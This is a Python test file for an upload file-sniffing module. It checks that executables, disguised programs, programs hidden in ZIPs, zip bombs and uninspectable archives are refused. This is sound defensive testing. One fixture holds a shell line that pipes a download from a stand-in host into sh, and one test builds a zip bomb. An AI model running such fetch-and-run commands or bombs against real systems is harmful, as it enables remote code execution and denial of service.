"""What a file is comes from its bytes, not its name; programs are refused however they are
named or packed."""

from __future__ import annotations

import io
import re
import zipfile

import pytest

from ombud.storage.sniff import MAX_ZIP_RATIO, Refused, sniff

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 120
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def zip_of(*entries: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in entries:
            zf.writestr(name, data)
    return buf.getvalue()


def docx() -> bytes:
    return zip_of(
        ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", b"<w:document><w:body><w:p>My complaint</w:p></w:body></w:document>"),
    )


@pytest.mark.parametrize(("data", "name", "media", "mismatch"), [
    (PNG, "statement.pdf", "image/png", True),
    (PNG, "screen.png", "image/png", False),
    (PDF, "statement.pdf", "application/pdf", False),
    (PDF, "photo.jpg", "application/pdf", True),
    (JPEG, "photo", "image/jpeg", False),
    (b"order 123 filled at 64,000\n", "notes.txt", "text/plain", False),
    ("訂單未成交\n".encode(), "notes", "text/plain", False),
    (b"\x00\x01\x02\x03binary", "blob.dat", "application/octet-stream", False),
])
def test_the_type_comes_from_the_bytes(
    data: bytes, name: str, media: str, mismatch: bool
) -> None:
    found = sniff(data, name)
    assert (found.media_type, found.extension_mismatch) == (media, mismatch)


def test_a_word_document_is_recognised_inside_its_zip() -> None:
    assert sniff(docx(), "complaint.docx").media_type == DOCX
    assert sniff(docx(), "complaint.zip").media_type == DOCX
    assert sniff(zip_of(("a.txt", b"hello")), "files.zip").media_type == "application/zip"


@pytest.mark.parametrize("data", [PE, ELF, MACHO, SCRIPT], ids=["MZ", "ELF", "Mach-O", "#!"])
@pytest.mark.parametrize("name", ["invoice.pdf", "photo.jpg", "notes.txt", "noextension"])
def test_programs_are_refused_however_named(data: bytes, name: str) -> None:
    with pytest.raises(Refused, match="this file is a program"):
        sniff(data, name)


@pytest.mark.parametrize("name", [
    "setup.exe", "SETUP.EXE", "invoice.pdf.exe", "run.bat", "x.ps1", "a.js", "app.apk",
    "report.scr", "launch.lnk", "tool.jar", "install.msi", "invoice.exe.", "invoice.exe ",
])
def test_executable_extensions_are_refused_whatever_the_bytes(name: str) -> None:
    with pytest.raises(Refused, match="are programs and are not accepted"):
        sniff(b"just some harmless text\n", name)


@pytest.mark.parametrize(("entries", "hidden"), [
    ((("readme.txt", b"hi"), ("setup.exe", b"text really")), "setup.exe"),
    ((("readme.txt", b"hi"), ("statement.pdf", PE)), "statement.pdf"),
    ((("photo.jpg", ELF),), "photo.jpg"),
    ((("docs/run.sh", b"echo"),), "docs/run.sh"),
])
def test_a_zip_hiding_a_program_is_refused(
    entries: tuple[tuple[str, bytes], ...], hidden: str
) -> None:
    with pytest.raises(Refused, match=re.escape(f"the archive hides a program: {hidden}")):
        sniff(zip_of(*entries), "evidence.zip")


def test_a_nested_zip_hiding_a_program_is_refused() -> None:
    inner = zip_of(("statement.pdf", PE))
    with pytest.raises(Refused, match=r"hides a program: statement\.pdf"):
        sniff(zip_of(("more.zip", inner), ("a.txt", b"x")), "evidence.zip")
    with pytest.raises(Refused, match="hides a program"):  # stored, not deflated
        sniff(zip_of(("more.zip", inner), method=zipfile.ZIP_STORED), "evidence.zip")
    innermost = zip_of(("a.txt", b"harmless"))
    with pytest.raises(Refused, match="nested too deep"):
        sniff(zip_of(("l2.zip", zip_of(("l3.zip", innermost)))), "evidence.zip")


def test_a_zip_bomb_is_refused() -> None:
    buf = io.BytesIO()
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf, \
            zf.open("statement.pdf", "w", force_zip64=True) as entry:
        for _ in range(200):  # 200 MB of zeros, streamed
            entry.write(chunk)
    bomb = buf.getvalue()
    assert len(bomb) < 400_000  # small on the wire...
    assert len(bomb) * MAX_ZIP_RATIO < 200 * (1 << 20)  # ...and implausibly large unpacked
    with pytest.raises(Refused, match="zip bomb"):
        sniff(bomb, "statement.zip")


@pytest.mark.parametrize(("data", "name", "kind"), [
    (b"\x1f\x8b\x08\x00" + b"\x00" * 40, "logs.tar.gz", "application/gzip"),
    (b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40, "logs.7z", "application/x-7z-compressed"),
    (b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40, "logs.rar", "application/vnd.rar"),
    (b"report.pdf".ljust(257, b"\x00") + b"ustar\x0000" + b"\x00" * 300, "logs.pdf",
     "application/x-tar"),
], ids=["gz", "7z", "rar", "tar"])
def test_archives_we_cannot_inspect_are_refused_with_a_clear_message(
    data: bytes, name: str, kind: str
) -> None:
    with pytest.raises(Refused) as refused:
        sniff(data, name)
    assert str(refused.value) == (
        f"{kind} archives cannot be checked for programs; send the files or a ZIP")
    with pytest.raises(Refused, match="another archive we cannot check"):
        sniff(zip_of(("inner.tgz", data)), "evidence.zip")


def test_a_damaged_or_encrypted_zip_is_refused() -> None:
    with pytest.raises(Refused, match="damaged"):
        sniff(b"PK\x03\x04" + b"\x00" * 40, "evidence.zip")
    encrypted = bytearray(zip_of(("a.txt", b"secret"), method=zipfile.ZIP_STORED))
    encrypted[6] |= 0x01  # the local header's "encrypted" flag
    encrypted[encrypted.find(b"PK\x01\x02") + 8] |= 0x01  # and the central directory's
    with pytest.raises(Refused, match="cannot be read"):
        sniff(bytes(encrypted), "evidence.zip")
